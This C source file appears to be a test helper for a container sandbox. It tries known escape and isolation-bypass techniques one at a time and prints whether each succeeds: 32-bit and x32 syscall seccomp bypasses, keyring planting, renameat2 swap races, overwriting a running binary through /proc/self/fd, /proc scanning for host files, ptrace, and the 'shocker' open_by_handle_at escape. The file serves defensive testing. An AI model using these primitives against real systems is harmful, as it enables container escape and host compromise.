/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack - what a hostile program tries, one way at a time; prints "ok" or the name of the error.
 *
 *	attack socket FAMILY			socket(2) by the native call
 *	attack socket32 FAMILY			by the i386 calls socketcall(2) and socket(2)
 *	attack socketx32 FAMILY			by the x32 call
 *	attack ioctl REQUEST [HIGH]		ioctl(0, REQUEST | HIGH << 32, "x")
 *	attack listen NAME, connect NAME	an abstract Unix socket
 *	attack plant NAME SECRET COMMAND...	a key in a session keyring, above COMMAND
 *	attack find NAME			the key of that name, and what it says
 *	attack swap A B				exchange two names for ever
 *	attack own FD				write to the file that FD has open for reading
 *	attack watch FILE INODE			names of processes through which FILE of the host can
 *						be read, or whose program has that inode, for ever
 *	attack trace PID			ptrace(2) and /proc/PID/mem
 *	attack handle DIR FILE			FILE by its handle, on the mount of DIR ("shocker")
 *	attack device PATH			open and read one byte
 *	attack uid				the effective id
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int say(long r)
{
	puts(r >= 0 ? "ok" : strerrorname_np(errno));
	return r < 0;
}

static long number(const char *s)
{
	return strtol(s, NULL, 0);
}

static int by_socket(char **v)
{
	say(socket((int)number(v[0]), SOCK_SEQPACKET, 0));
	return say(socket((int)number(v[0]), SOCK_STREAM, 0));
}

#ifdef __x86_64__
/* The call as a 32-bit program makes it; its pointers are below 4 GiB. */
static long call32(long nr, long a, long b, long c)
{
	long r;

	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	if (r < 0 && r > -4096) {
		errno = (int)-r;
		return -1;
	}
	return r;
}

static int by_socket32(char **v)
{
	uint32_t *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	args[0] = (uint32_t)number(v[0]);
	args[1] = SOCK_STREAM;
	say(call32(102, 1, (long)args, 0));
	return say(call32(359, number(v[0]), SOCK_STREAM, 0));
}

static int by_socketx32(char **v)
{
	return say(syscall(0x40000000 | SYS_socket, number(v[0]), SOCK_STREAM, 0));
}
#else
static int by_socket32(char **v)
{
	(void)v;
	errno = ENOSYS;
	say(-1);
	return say(-1);
}

static int by_socketx32(char **v)
{
	(void)v;
	errno = ENOSYS;
	return say(-1);
}
#endif

static int by_ioctl(char **v)
{
	unsigned long high = v[1] ? (unsigned long)number(v[1]) : 0;

	return say(syscall(SYS_ioctl, 0, (unsigned long)number(v[0]) | high << 32, "x"));
}

static socklen_t abstract(struct sockaddr_un *a, const char *name)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	strncpy(a->sun_path + 1, name, sizeof(a->sun_path) - 2);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
}

static int by_listen(char **v)
{
	struct sockaddr_un a;
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	socklen_t len = abstract(&a, v[0]);

	if (bind(fd, (struct sockaddr *)&a, len) < 0 || listen(fd, 9) < 0)
		return say(-1);
	say(0);
	fflush(stdout);
	pause();
	return 0;
}

static int by_connect(char **v)
{
	struct sockaddr_un a;
	socklen_t len = abstract(&a, v[0]);

	return say(connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&a, len));
}

#define JOIN_SESSION 1
#define SEARCH       10
#define READ         11
#define SESSION      (-3)

static int by_plant(char **v)
{
	if (syscall(SYS_keyctl, JOIN_SESSION, NULL) < 0 ||
	    syscall(SYS_add_key, "user", v[0], v[1], strlen(v[1]), SESSION) < 0)
		return say(-1);
	execvp(v[2], v + 2);
	return say(-1);
}

static int by_find(char **v)
{
	char text[256] = "";
	long key = syscall(SYS_keyctl, SEARCH, SESSION, "user", v[0], 0);

	if (key >= 0)
		key = syscall(SYS_keyctl, READ, key, text, sizeof(text) - 1);
	say(key);
	puts(text);
	return key < 0;
}

static int by_swap(char **v)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, v[0], AT_FDCWD, v[1],
			    2 /* RENAME_EXCHANGE */) < 0)
			return say(-1);
}

/* Text that runs cannot be written: until it does not. */
static int by_own(char **v)
{
	char path[64];
	struct timespec nap = { .tv_nsec = 1000000 };

	snprintf(path, sizeof(path), "/proc/self/fd/%s", v[0]);
	for (int i = 0; i < 500; i++) {
		int fd = open(path, O_WRONLY | O_APPEND);

		if (fd >= 0)
			return say(write(fd, "owned", 5));
		if (errno != ETXTBSY)
			break;
		nanosleep(&nap, NULL);
	}
	return say(-1);
}

static void leads_out(const char *pid, const char *name, const char *file)
{
	char path[4096];

	snprintf(path, sizeof(path), "/proc/%s/%s%s", pid, name, file);
	if (access(path, R_OK) == 0)
		printf("%s %s\n", pid, name);
}

static void look_at(const char *pid, const char *file, ino_t program)
{
	static const char *const names[] = { "root", "cwd" };
	char path[256], name[64];
	struct stat st;

	for (size_t i = 0; i < 2; i++)
		leads_out(pid, names[i], file);
	for (int fd = 0; fd < 16; fd++) {
		snprintf(name, sizeof(name), "fd/%d", fd);
		leads_out(pid, name, file);
	}
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	if (stat(path, &st) == 0 && st.st_ino == program)
		printf("%s exe\n", pid);
}

__attribute__((noreturn)) static int by_watch(char **v)
{
	ino_t program = (ino_t)strtoull(v[1], NULL, 10);

	puts("watching");
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		while (d && (de = readdir(d)))
			if (de->d_name[0] >= '1' && de->d_name[0] <= '9' &&
			    strtol(de->d_name, NULL, 10) != getpid())
				look_at(de->d_name, v[0], program);
		if (d)
			closedir(d);
		fflush(stdout);
	}
}

static int by_trace(char **v)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%s/mem", v[0]);
	say(open(path, O_RDWR));
	return say(ptrace(PTRACE_SEIZE, (pid_t)number(v[0]), NULL, NULL));
}

static int by_handle(char **v)
{
	union {
		struct file_handle h;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u = { .h.handle_bytes = MAX_HANDLE_SZ };
	int mount, dir = open(v[0], O_RDONLY | O_DIRECTORY);

	if (dir < 0 || name_to_handle_at(AT_FDCWD, v[1], &u.h, &mount, 0) < 0)
		return say(-1);
	return say(open_by_handle_at(dir, &u.h, O_RDONLY));
}

static int by_device(char **v)
{
	char c;
	int fd = open(v[0], O_RDONLY | O_NONBLOCK);

	return say(fd < 0 ? fd : read(fd, &c, 1));
}

static int by_uid(char **v)
{
	(void)v;
	printf("%d\n", geteuid());
	return 0;
}

static const struct way {
	const char *name;
	int words;
	int (*attack)(char **v);
} ways[] = {
	{ "socket", 1, by_socket },
	{ "socket32", 1, by_socket32 },
	{ "socketx32", 1, by_socketx32 },
	{ "ioctl", 1, by_ioctl },
	{ "listen", 1, by_listen },
	{ "connect", 1, by_connect },
	{ "plant", 3, by_plant },
	{ "find", 1, by_find },
	{ "swap", 2, by_swap },
	{ "own", 1, by_own },
	{ "watch", 2, by_watch },
	{ "trace", 1, by_trace },
	{ "handle", 2, by_handle },
	{ "device", 1, by_device },
	{ "uid", 0, by_uid },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
		if (argc >= 2 + ways[i].words && strcmp(argv[1], ways[i].name) == 0)
			return ways[i].attack(argv + 2);
	fputs("attack: see the source\n", stderr);
	return 2;
}
